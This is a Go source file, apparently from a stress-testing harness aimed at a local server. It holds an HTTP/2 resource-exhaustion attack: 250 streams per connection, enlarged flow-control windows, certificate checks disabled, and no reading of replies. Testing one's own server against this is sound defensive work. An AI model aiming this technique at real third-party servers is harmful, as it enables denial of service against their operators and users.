package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"math/rand/v2"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams is how many there are on a connection of HTTP/2: as many as Go allows.
const streams = 250

// windows asks for the job on many streams of one connection, and reads nothing.
// Its windows are those that all begin with, or so wide that only the kernel's
// buffers end what the server may send.
func windows(ctx context.Context, a *attack, plain net.Conn) {
	conn := tls.Client(plain, &tls.Config{ServerName: "localhost", NextProtos: []string{"h2"}, InsecureSkipVerify: true}) // it is on this machine
	if conn.HandshakeContext(ctx) != nil {
		a.note("no handshake")
		return
	}
	requests, err := a.requests([]uint32{65535, 1<<31 - 1}[rand.IntN(2)])
	if err == nil {
		_, err = conn.Write(requests)
	}
	if err != nil {
		a.note("hung up")
		return
	}
	a.note("held")
	<-ctx.Done()
}

// requests are what a client sends who asks for the job on all streams.
func (a *attack) requests(window uint32) ([]byte, error) {
	var b, block bytes.Buffer
	b.WriteString(http2.ClientPreface)
	f, e := http2.NewFramer(&b, nil), hpack.NewEncoder(&block)
	err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}, http2.Setting{ID: http2.SettingEnablePush})
	if window > 65535 {
		err = errors.Join(err, f.WriteWindowUpdate(0, window-65535))
	}
	for i := range uint32(streams) {
		block.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", a.path()}} {
			err = errors.Join(err, e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}))
		}
		err = errors.Join(err, f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}))
	}
	return b.Bytes(), err
}
